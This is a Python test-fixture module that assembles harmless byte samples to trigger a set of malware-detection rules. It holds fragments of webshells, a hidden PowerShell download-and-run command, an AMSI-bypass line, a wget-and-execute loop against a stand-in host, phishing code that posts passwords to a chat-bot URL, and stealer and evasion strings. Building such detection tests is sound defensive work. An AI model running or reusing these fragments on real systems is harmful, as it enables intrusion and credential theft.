"""For each of our own rules a file that it is meant for: put together of pieces, harmless, and unlike any real one."""

from __future__ import annotations

_MZ = b"MZ" + bytes(62)
_ELF = b"\x7fELF" + bytes(60)


def _php(text: str) -> bytes:
    return b"<?" + b"php\n" + text.encode() + b"\n"


def _with(head: bytes, *strings: str) -> bytes:
    return head + b"\0".join(string.encode() for string in strings) + b"\0"


def samples() -> dict[str, bytes]:
    """Files by the name of the rule."""
    post, request = "$_" + "POST", "$_" + "REQUEST"
    shell, net = "WScript" + ".Shell", "http://example.test/a"
    chat = "https://api.telegram" + ".org/bot0:x/sendMessage"
    scripts = {
        "Shell_Php_Eval_Input": _php(f"eval({post}['x']);"),
        "Shell_Php_Variable_Function": _php(f" @{request}['f']({request}['x']);".replace(" @", " ")),
        "Shell_Php_Packed": _php("eval(gzinflate(base64_decode('AAAA')));"),
        "Shell_Asp_Eval_Request": b'<% eval request("x") %>',
        "Shell_Jsp_Exec_Parameter": b'<% Runtime.getRuntime().exec(request.getParameter("x")); %>',
        "Shell_Php_Console": _php(
            "safe_mode disable_functions shell_exec move_uploaded_file posix_getpwuid /etc/passwd"
        ),
        "Loader_Powershell_Reflective": b"$b=[Convert]::FromBase64String('AA');$a=[Reflection.Assembly]::Load($b);"
        b"$a.EntryPoint.Invoke($null,$null)",
        "Loader_Powershell_Shellcode": b"$m = [W]::VirtualAlloc(0,1);[Runtime.InteropServices.Marshal]::Copy($c,0,$m,1)"
        b";[W]::CreateThread(0)",
        "Loader_Powershell_Amsi": b"[Ref].Assembly.GetType('System.Management.Automation.Amsi"
        b"Utils').GetField('amsi"
        b"InitFailed').SetValue($null,$true)",
        "Loader_Powershell_Hidden_Download": f"powershell -nop -w hidden iex (irm {net})".encode(),
        "Loader_Script_Writes_Program": f'"ADODB.Stream" "{shell}" SaveToFile "bin.base64" "x.exe"'.encode(),
        "Loader_Script_Character_Codes": b"eval(String.fromCharCode(" + b",".join([b"101"] * 150) + b"))",
        "Loader_Batch_Spliced": b"@echo off\r\nset x=abc\r\n" + b"%x:~1,1%" * 12,
        "Loader_Batch_Carries_Cabinet": b"certutil -decode %0 x\n-----BEGIN CERTIFICATE-----\nTVqQAAMA\n",
        "Loader_Python_Packed": b"exec(zlib.decompress(base64.b64decode(b'" + b"A" * 300 + b"')))",
        "Loader_Shell_Pipe": "".join(
            f"wget {net}.{kind}; chmod +x x; ./x\n" for kind in ("mips", "arm7", "x86")
        ).encode(),
        "Loader_Hta_Window_Away": f"<hta:application><script>window.moveTo(-9999,0);new X('{shell}').Run(1)".encode(),
        "Kit_Php_Mails_Password": _php(
            f"$m = {post}['password'] . $_SERVER['REMOTE_ADDR']; mail($to, $m); header('Location: x');"
        ),
        "Kit_Php_Sends_To_Chat": _php(f"$m = {post}['password']; get('{chat}');"),
        "Kit_Page_Sends_To_Chat": f'<input type="password"><script>fetch("{chat}")</script>'.encode(),
        "Kit_Blocks_Watchers": _php("phishtank netcraft googlebot kaspersky gethostbyaddr(1); die('x');"),
        "Kit_Archive": b"PK\3\4" + b"\0".join((b"antibots.php", b"blocker.php", b"result.php", b"login_1.php")),
    }
    programs = {
        "Program_Ransom_Note": _with(_MZ, "vssadmin delete shadows /all", "your files have been encrypted", "bitcoin"),
        "Program_Stealer_Places": _with(
            _MZ,
            "\\Login Data",
            "\\Cookies",
            "logins.json",
            "wallet.dat",
            "SELECT origin_url",
            "\\Exodus\\exodus.wallet",
        ),
        "Program_Hollows_Another": _with(
            _MZ, "NtUnmapViewOfSection", "WriteProcessMemory", "SetThreadContext", "ResumeThread", "VirtualAllocEx"
        ),
        "Program_Reflective_Loader": _with(_MZ, "_ReflectiveLoader@4", "VirtualAlloc"),
        "Program_Sends_To_Bot": _with(_MZ, chat, "password", "cookies", "keylog", "api.ipify.org"),
        "Program_Keyed_By_Debugger_And_Sandbox": _with(
            _MZ, "SbieDll.dll", "vmtoolsd", "VBoxService", "wireshark", "procmon", "ollydbg"
        ),
        "Program_Miner": _with(_ELF, "stratum+tcp://", "randomx", "donate-level"),
        "Program_Botnet_Device": _with(_ELF, "/bin/busybox", "/dev/watchdog", "xc3511", "/proc/net/tcp"),
        "Packer_Upx": _with(_MZ, "UPX0", "UPX1"),
        "Packer_Protector": _with(_MZ, ".themida"),
    }
    return scripts | programs
